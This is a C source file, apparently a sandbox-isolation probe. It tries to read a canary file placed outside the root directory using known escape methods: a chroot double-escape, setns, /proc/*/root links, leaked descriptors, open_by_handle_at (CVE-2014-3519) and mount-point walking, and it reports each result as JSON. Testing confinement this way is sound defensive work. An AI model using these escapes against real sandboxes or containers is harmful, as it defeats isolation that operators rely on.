/*
 * The classic ways out of a root directory. Each is really gone, up to the place where one file can be read that judge
 * has put outside; who can read that could read any. chroot(2), setns(2), open_by_handle_at(2), proc_pid_root(5).
 */
#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "probe.h"

struct goal {
    const char *outside; /* the file, as it is called outside; begins with / */
    const char *handle;  /* its handle in hex, or empty */
};

/* Says what is in it: judge knows what that is, and nobody in here does. */
static bool says_content(int fd)
{
    char text[128];
    ssize_t length = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
    if (length <= 0)
        return false;
    text[length] = '\0';
    answer("out %s", text);
    return true;
}

static bool reads_below(int folder, const char *path)
{
    int fd = openat(folder, path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
    bool done = says_content(fd);
    int error = errno;
    if (fd >= 0)
        close(fd);
    errno = error;
    return done;
}

static bool is_at_top(void)
{
    struct stat here, above;
    return stat(".", &here) < 0 || stat("..", &above) < 0 ||
           (here.st_dev == above.st_dev && here.st_ino == above.st_ino);
}

/* From here up as far as ".." leads, and then down by the path. */
static void climb_and_read(const struct goal *goal)
{
    for (int steps = 0; steps < 200 && !is_at_top(); steps++)
        if (chdir("..") < 0)
            break;
    if (!reads_below(AT_FDCWD, goal->outside + 1))
        answer_error();
}

/* It is said aloud, or by nobody: a bind mount of the host's tree somewhere in here. */
static void by_name(const void *argument)
{
    const struct goal *goal = argument;
    if (!reads_below(AT_FDCWD, goal->outside))
        answer_error();
}

static void by_chroot(const void *argument)
{
    const struct goal *goal = argument;
    const char *below = in_folder("below");
    int top = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    mkdir(below, 0700);
    static const char *const others[] = {"/proc", "/dev", "/etc", "/usr"};
    int result = chroot(below);
    for (size_t i = 0; result < 0 && i < sizeof others / sizeof *others; i++)
        result = chroot(others[i]);
    if (result < 0 || fchdir(top) < 0)
        answer_error();
    else
        climb_and_read(goal);
}

static void by_setns(const void *argument)
{
    int fd = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        fd = syscall(434 /* pidfd_open */, getpid(), 0);
    if (fd < 0 || setns(fd, CLONE_NEWNS) < 0)
        answer_error();
    else
        by_name(argument);
}

/* Our own working directory is a way of its own, and a link to it leads there as well. */
static bool is_our_cwd(int folder)
{
    struct stat there, here;
    return fstat(folder, &there) == 0 && stat(".", &here) == 0 && there.st_dev == here.st_dev &&
           there.st_ino == here.st_ino;
}

/* The root directories and working directories of all processes that can be seen. */
static void by_proc(const void *argument)
{
    const struct goal *goal = argument;
    DIR *proc = opendir("/proc");
    int tried = 0, error = ENOENT;
    for (struct dirent *entry; proc && tried < 20000 && (entry = readdir(proc));) {
        static const char *const links[] = {"root", "cwd"};
        for (size_t i = 0; i < 2 && *entry->d_name >= '1' && *entry->d_name <= '9'; i++) {
            char path[300];
            snprintf(path, sizeof path, "/proc/%s/%s", entry->d_name, links[i]);
            int fd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
            tried++;
            if (fd < 0) {
                error = errno;
                continue;
            }
            if (!(i == 1 && is_our_cwd(fd)) && reads_below(fd, goal->outside + 1))
                return;
            close(fd);
        }
    }
    errno = error;
    answer_error();
}

/* A folder that somebody left open, and where the working directory is: neither is changed by a new root directory. */
static void by_descriptor(const void *argument)
{
    const struct goal *goal = argument;
    struct stat file;
    errno = EBADF;
    for (int fd = 3; fd < 4096; fd++)
        if (fstat(fd, &file) == 0 && S_ISDIR(file.st_mode) && fchdir(fd) == 0) {
            climb_and_read(goal);
            return;
        }
    answer_error();
}

static void by_cwd(const void *argument)
{
    climb_and_read(argument);
}

/* A second name for a file is its number, and whoever may use that passes every folder (CVE-2014-3519 and others). */
static void by_handle(const void *argument)
{
    const struct goal *goal = argument;
    struct {
        unsigned bytes;
        int type;
        unsigned char handle[128];
    } file = {0};
    size_t length = strlen(goal->handle) / 2;
    if (length < 4 || length > 4 + sizeof file.handle)
        return; /* its file system has no such numbers */
    for (size_t i = 0; i < length; i++) {
        unsigned byte;
        if (sscanf(goal->handle + 2 * i, "%2x", &byte) != 1)
            return;
        if (i < 4)
            file.type |= (int)byte << 8 * i;
        else
            file.handle[i - 4] = byte;
    }
    file.bytes = length - 4;
    int mount = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (!says_content(syscall(SYS_open_by_handle_at, mount, &file, O_RDONLY | O_CLOEXEC)))
        answer_error();
}

/* The file by its path below every mount: the old root, say, that is still there at /old. */
static void by_mounts(const void *argument)
{
    const struct goal *goal = argument;
    char line[4096], point[4096];
    FILE *mounts = fopen("/proc/self/mountinfo", "re");
    while (mounts && fgets(line, sizeof line, mounts)) {
        if (sscanf(line, "%*s %*s %*s %*s %4095s", point) != 1)
            continue;
        int fd = open(point, O_PATH | O_DIRECTORY | O_CLOEXEC);
        if (fd >= 0 && reads_below(fd, goal->outside + 1))
            return;
        if (fd >= 0)
            close(fd);
    }
    errno = ENOENT;
    answer_error();
}

static const struct {
    const char *name;
    void (*go)(const void *goal);
} ways[] = {{"name", by_name},     {"mounts", by_mounts},         {"chroot", by_chroot},
            {"setns", by_setns},   {"proc", by_proc},             {"cwd", by_cwd},
            {"handle", by_handle}, {"descriptor", by_descriptor}};

void ways_out(struct json *body, const char *outside, const char *handle)
{
    struct goal goal = {outside, handle};
    field(body, "ways");
    json_raw(body, "{");
    for (size_t i = 0; *outside == '/' && i < sizeof ways / sizeof *ways; i++) {
        struct answer said;
        ask_child(ways[i].go, &goal, &said);
        field_text(body, ways[i].name, said.text);
    }
    json_raw(body, "}");
    rmdir(in_folder("below"));
}
